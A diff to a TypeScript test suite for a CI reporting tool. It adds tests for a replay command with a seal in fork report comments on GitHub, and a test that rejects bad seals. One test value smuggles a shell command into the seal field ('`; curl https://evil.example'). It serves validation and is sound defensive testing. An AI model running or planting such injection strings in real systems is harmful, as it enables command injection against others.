@@ -54,6 +54,20 @@ describe('what a fork has measured', () => {
     expect(github.checkRuns[0]?.fields.conclusion).toBe('neutral');
   });
 
+  it('is told with the command that makes it again: its seal, and the name that it has here', async () => {
+    const path = await fork.download(handedOn);
+    await forge(path, (handOff) => (handOff.seal = '5f3a9c0d11e27b48'));
+    await fork.report(path);
+    expect(github.comments(7)[0]?.body).toMatch(
+      /\/actions\/runs\/42\) · again: `flamegate replay flamegate-shop --seal 5f3a9c0d11e27b48`\n$/u,
+    );
+  });
+
+  it('is told without one when nothing was kept', async () => {
+    await fork.report(await fork.download(handedOn));
+    expect(github.comments(7)[0]?.body).not.toContain('flamegate replay');
+  });
+
   it('of a branch is told without the note', async () => {
     fork.pull = github.addPull({ number: 7, headRef: 'topic' });
     await fork.report(await fork.measure());
@@ -102,6 +116,11 @@ describe('a hand-off is refused, and nothing is told, when', () => {
       'it claims another commit',
       (h) => (h.headSha = 'd'.repeat(40)),
       `it is about the commit "${'d'.repeat(40)}"`,
+    ],
+    [
+      'its seal is a command',
+      (h) => (h.seal = '5f3a9c0d11e27b48`; curl https://evil.example'),
+      'seal must be 16 hexadecimal digits',
     ],
     ['it is from another repository', (h) => (h.repository = 'a/b'), 'of the repository "a/b"'],
     [
